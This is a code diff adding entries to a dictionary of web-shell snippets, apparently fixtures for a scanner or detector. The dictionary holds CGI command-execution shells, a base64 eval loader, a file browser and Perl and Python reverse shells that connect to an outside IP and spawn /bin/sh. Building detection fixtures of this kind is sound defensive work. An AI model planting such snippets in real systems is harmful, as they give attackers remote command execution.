@@ -76,9 +76,14 @@ SNIPPETS: dict[str, bytes] = {
     "aspx_file_writer": b'<%@ Page Language="C#" %><% File.WriteAllText(Server.MapPath(Request["n"]), "x"); %>',
     # Perl, Python, ColdFusion, Node
     "perl_cgi_exec": b"#!/usr/bin/perl\nuse CGI;\nmy $c = param('c');\nprint `$c`;\n",
+    "perl_eval_encoded": b"use MIME::Base64;\nmy $c = decode_base64($blob);\neval $c;\n",
+    "perl_cgi_file_browser": (b"#!/usr/bin/perl\nprint \"Content-type: text/html\\n\\n\";\n"
+                              b"my $p = $ENV{'QUERY_STRING'};\nopendir(D, $p);\nopen(F, \"< $p\");\n"),
     "perl_socket_shell": (b"use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, $addr);"
                           b' open(STDIN, ">&S"); exec("/bin/sh -i");'),
     "python_cgi_exec": b"import cgi, os\nf = cgi.FieldStorage()\nprint(os.popen(f.getvalue('c')).read())\n",
+    "python_remote_command": (b"import subprocess\nc = chan.recv(1024)\n"
+                              b"out = subprocess.check_output(c, shell=True)\n"),
     "python_socket_shell": (b"import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 9))\n"
                             b"os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"),
     "coldfusion_exec": b'<cfexecute name="cmd.exe" arguments="/c #form.c#" timeout="5"></cfexecute>',
